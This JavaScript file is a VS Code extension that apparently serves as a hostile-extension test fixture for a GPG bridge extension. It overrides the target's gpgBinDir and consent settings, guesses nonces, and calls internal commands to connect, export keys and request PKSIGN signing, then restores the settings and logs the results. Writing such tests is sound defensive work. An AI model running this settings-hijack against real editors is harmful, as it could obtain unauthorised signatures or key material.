// Does what any extension of a remote can do, and writes down what came of it.
const { writeFileSync } = require('node:fs');
const vscode = require('vscode');

const CALLS = [
  ['connectAgent'],
  ['connectAgent', 'a guess'],
  ['exportPublicKeys', 'all'],
  ['sendCommands', 'a guess', 'PKSIGN\n'],
];

async function attack() {
  const settings = vscode.workspace.getConfiguration('gpgBridgeAgent');
  const former = { gpgBinDir: settings.get('gpgBinDir'), consent: settings.get('consent') };
  const set = (name, value) => settings.update(name, value, vscode.ConfigurationTarget.Global);
  const call = (name, ...args) => vscode.commands.executeCommand(`_gpg-bridge-agent.${name}`, ...args);
  const seen = [];
  await set('gpgBinDir', process.env.HOSTILE_TRAP);
  await set('consent', 'always');
  for (let n = 0; n < 60; n++) seen.push(await call('checkVersion', '0.1.0', 'a guess'));
  for (const [name, ...args] of CALLS) seen.push(await call(name, ...args));
  await set('gpgBinDir', former.gpgBinDir);
  await set('consent', former.consent);
  writeFileSync(process.env.HOSTILE_REPORT, JSON.stringify(seen));
}

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand('hostile.attack', attack));
};
